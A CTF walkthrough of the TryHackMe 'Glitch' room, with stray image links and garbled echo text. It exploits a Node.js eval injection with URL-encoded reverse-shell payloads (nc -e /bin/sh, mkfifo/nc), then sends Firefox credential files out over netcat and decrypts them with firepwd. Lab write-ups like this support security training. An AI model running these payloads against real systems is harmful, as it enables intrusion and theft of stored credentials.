8 minute read

Machine Information


Glitch is an easy difficulty room on TryHackMe. An initial scan reveals a web server which we find a node.js application running on it. After some parameter tampering and fuzzing we find a way to gain a reverse shell. From there we retrieve users credentials from a saved Firefox profile, and further enumeration finds we now have permissions to execute doas. Then it’s a simple process of escalating to root to complete the room.

Skills required are a basic understanding of JavaScript. Skills learned are parameter tampering, fuzzing and enumeration of file systems.

Hosting Site TryHackMe
Link To Machine THM - Easy - Glitch
Machine Release Date 4th Jan 2021
Date I Completed It 4th April 2021
Distribution Used Kali 2021.1 – Release InfoInitial Recon

As always let’s start with Nmap:

└─# ports=$(nmap -p- --min-rate=1000 -T4 | grep ^[0-9] | cut -d '/' -f 1 | tr '\n' ',' | sed s/,$//)

└─# nmap -p$ports -sC -sV -oA glitch
Starting Nmap 7.91 ( https://nmap.org ) at 2021-04-02 18:04 BST
Nmap scan report for
Host is up (0.033s latency).80/tcp open  http    nginx 1.14.0 (Ubuntu)
|_http-server-header: nginx/1.14.0 (Ubuntu)
|_http-title: not allowed
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 12.16 seconds

Only port 80 open. Let’s add the server IP to our hosts file first:

echo glitch.thm >> /etc/hosts

Now browse the site to see what we find:


A static image, not much here let’s check the source code:


We see a function called getAccess, let’s see what that does. In FireFox we can press Ctrl+Shift+K to bring up the console, then we just enter the function:


We see a response with a value for a key pair called token. It looks like base64 encoded, let’s try and decode:

└─# echo "<HIDDEN>==" | base64 -d

The clue from above suggests the token and this decoded value belong together. If we switch to the storage tab in the dev console of Firefox we find a cookie called token, so let’s set it’s value to what we’ve found:


Press F5 to refresh the page now token is set to the value we decoded above:We have a new page, although looking around it there is nothing obvious. Time to look at this pages source code. In there I find this:

    <section id="click-here-sec">
      <a href="#">click me.</a>
    <script src="js/script.js"></script>

Looking at the javascript file I find this section

(async function () {
  const container = document.getElementById('items');
  await fetch('/api/items')
    .then((response) => response.json())
    .then((response) => {response.sins.forEach((element) => {

We have another function, let’s try that one:


We get a response, let’s switch to curl and investigate further:

└─# curl http://glitch.thm/api/items

A normal request like above is doing a GET, what happens if we instead try a POST:

└─# curl -X POST http://glitch.thm/api/itemsWe can assume there is a parameter needed based on that response. Time to fuzz and see if we can find one:

└─# wfuzz -c -z file,/usr/share/wordlists/wfuzz/general/medium.txt --hc 400 -X POST -u http://glitch.thm/api/items\?FUZZ\=test

* Wfuzz 3.1.0 - The Web Fuzzer                         *
Target: http://glitch.thm/api/items?FUZZ=test
Total requests: 1659
ID           Response   Lines    Word       Chars       Payload
000000322:   500        10 L     64 W       1081 Ch     "cmd"

Total time: 0
Processed Requests: 1659
Filtered Requests: 1658
Requests/sec.: 0

Above we’ve used wfuzz with one of the built in wordlists. We’ve told it to only display results were the response wasn’t 400 Bad Request. From that we can see it found cmd, so now we can look at that further.

Let’s try curl again but now with our known parameter:└─# curl -X POST http://glitch.thm/api/items?cmd=test
<!DOCTYPE html>
<html lang="en">
<meta charset="utf-8">
<pre>ReferenceError: test is not defined<br>    at eval (eval at router.post (/var/web/routes/api.js:25:60), <anonymous>:1:1)<br>    at router.post (/var/web/routes/api.js:25:60)<br>    at Layer.handle [as handle_request] (/var/web/node_modules/express/lib/router/layer.js:95:5)<br>    at next(/var/web/node_modules/express/lib/router/route.js:137:13)<br>    at Route.dispatch (/var/web/node_modules/express/lib/router/route.js:112:3)<br>    at Layer.handle [as handle_request] (/var/web/node_modules/express/lib/router/layer.js:95:5)<br>    at /var/web/node_modules/express/lib/router/index.js:281:22<br>    at Function.process_params (/var/web/node_modules/express/lib/router/index.js:335:12)<br>    at next (/var/web/node_modules/express/lib/router/index.js:275:10)<br>    at Function.handle (/var/web/node_modules/express/lib/router/index.js:174:3)</pre>

A lengthy error message come back, which tells us two things. First there is a function called eval, that didn’t like our input:

ReferenceError: test is not defined<br>    at eval (eval at router.post)

And second we can see this is a Node.JS application, as it mentions node_modules:

Layer.handle [as handle_request] (/var/web/node_modules/express/lib/router/layer.js:95:5)

I don’t know about the eval function and if it’s exploitable, but a quick search found this and this, both explain how to take advantage of it.

First I tried the suggestedmethod:

curl -X POST http://glitch.thm/api/items?cmd=require('child_process').exec('nc -e /bin/sh 1234')

Which didn’t work so I tried to url encode it:

└─# curl -X POST http://glitch.thm/api/items?cmd=require%28%27child_process%27%29.exec%28%27nc%20-e%20%2Fbin%2Fsh%2010.8.185.116%201234%27%29
vulnerability_exploited [object Object]

Which looked good, but my waiting nc listener didn’t catch anything. I’ve done other CTF in the past where I’ve needed to use this one from PayloadsAllTheThings:

rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 4242 >/tmp/f

I URL encoded it as well, just to make sure:

└─# curl -X POST http://glitch.thm/api/items?cmd=require%28%27child_process%27%29.exec%28%27rm%20%2Ftmp%2Ff%3Bmkfifo%20%2Ftmp%2Ff%3Bcat%20%2Ftmp%2Ff%7C%2Fbin%2Fsh%20-i%202%3E%261%7Cnc%2010.8.165.116%201234%20%3E%2Ftmp%2Ff%27%29
vulnerability_exploited [object Object]

Now switching to my nc listener and we have a reverse shell connected:└─# nc -nlvp 1234
listening on [any] 1234 ...
connect to [] from (UNKNOWN) [] 41422
/bin/sh: 0: can't access tty; job control turned off

Let’s upgrade to a better shell:

 python -c 'import pty;pty.spawn("/bin/bash")'

And now we can grab the user flag:

user@ubuntu:/var/web$ cd /home/user
user@ubuntu:~$ ls -lsa
ls -lsa
total 48
 4 drwxr-xr-x   8 user user  4096 Jan 27 10:33 .
 4drwxr-xr-x   4 root root  4096 Jan 15 14:13 ..
 0 lrwxrwxrwx   1 root root     9 Jan 21 09:05 .bash_history -> /dev/null
 4 -rw-r--r--   1 user user  3771 Apr  4  2018 .bashrc
 4 drwx---   2 user user  4096 Jan  4 13:41 .cache
 4 drwxrwxrwx   4 user user  4096 Jan 27 10:32 .firefox
 4 drwx---   3 user user  4096 Jan  4 13:41 .gnupg
12 drwxr-xr-x 270 user user 12288 Jan  4 14:07 .npm
 4 drwxrwxr-x   5 user user  4096 Apr  4 20:23 .pm2
 4 drwx---   2 user user  4096 Jan 21 08:47 .ssh
 4 -rw-rw-r--   1 user user    22 Jan  4 15:29 user.txt
user@ubuntu:~$ cat user.txt

While we’re here, I notice a .firefox folder. This may contain saved passwords for the user, let’s have a look at that:

user@ubuntu:~$ cd .firefox
user@ubuntu:~/.firefox$ ls -lsa
4 drwxrwxrwx 11 user user 4096 Jan 27 10:32  b5w4643p.default-release
4 drwxrwxrwx  3 user user 4096 Jan 27 10:32 'Crash Reports'
4 -rwxrwxr-x  1 user user  259 Jan 27 10:32  profiles.ini

We have the users Firefox config files, in there are two files that can be used to extract any savedcredentials. I covered this in another TryHackMe room called GateKeeper a while ago. So I can just follow the same steps. The script to use is here, have a read to understand how it works, and which files you need to retrieve.

First we copy the two required files over to Kali. Start a nc listener waiting for the first file:

└─# nc -nlvp 4444 > key4.db
listening on [any] 4444 ...

Now back on the glitch server we send the file to Kali:

user@ubuntu:~/.firefox/b5w4643p.default-release$ nc -nv 4444 < key4.db
.db-nv 4444 < key4.
Connection to 4444 port [tcp/*] succeeded!

Repeat for the second file. Start another nc listening for the file on Kali:

└─# nc -nlvp 4444 > logins.json
listening on [any] 4444 ...

Back to the glitch server and send the second file:

user@ubuntu:~/.firefox/b5w4643p.default-release$ nc -nv 4444 < logins.json
ns.json10.8.165.116 4444 < login
Connection to 4444 port [tcp/*] succeeded!

Now let’s grab the script from GitHub, and install requirements:

└─# git clone https://github.com/lclevy/firepwd.git
Cloning into 'firepwd'...
remote: Enumerating objects: 8, done.
remote: Counting objects: 100% (8/8), done.
remote: Compressing objects: 100% (8/8), done.
remote: Total 88 (delta 2), reused 1 (delta 0), pack-reused 80
Receiving objects: 100% (88/88), 238.50 KiB | 2.51 MiB/s, done.
Resolving deltas: 100% (41/41), done.

└─# cd firepwd

└─#  pip install -r requirements.txt
Collecting PyCryptodome>=3.9.0
  Downloading pycryptodome-3.10.1-cp35-abi3-manylinux2010_x86_64.whl (1.9 MB)
     |███| 1.9 MB 4.0 MB/s
Requirement already satisfied:pyasn1>=0.4.8 in /usr/lib/python3/dist-packages (from -r requirements.txt (line 2)) (0.4.8)
Installing collected packages: PyCryptodome
Successfully installed PyCryptodome-3.10.1

Move our retrieved files in to the firepwd folder:

└─# mv key4.db firepwd
└─# mv logins.json firepwd

Now we just run the script and it will automatically crack the files and give us any saved credentials:

└─# python3 firepwd.py
globalSalt: b'c6b3288fe32e9b2eaab7f9859afd603ee5438c7d'
clearText b'5edc75d601dc4f2c9e5b9bbc49e6432c85dc0dbcfd1c6b1c0808080808080808'
decrypting login/password pairsWe have a user and password, and before when looking around I saw there is a user on this server called v0id. We can assume this is our next step, let’s try to switch user:

user@ubuntu:~/.firefox/b5w4643p.default-release$ su v0id
su v0id
Password: <HIDDEN>

That was nice and easy. Time to look for an escalation path to root. There’s a few things I always try first before using a script like LinPEAS. Hacktricks is a good place to look, and I usually start with these:


First see if we can run any commands as root without password:

v0id@ubuntu:/var/web$ sudo -l
sudo -l[sudo] password for v0id: <HIDDEN>
Sorry, user v0id may not run sudo on ubuntu.

No luck, let’s see if there SUID binaries:

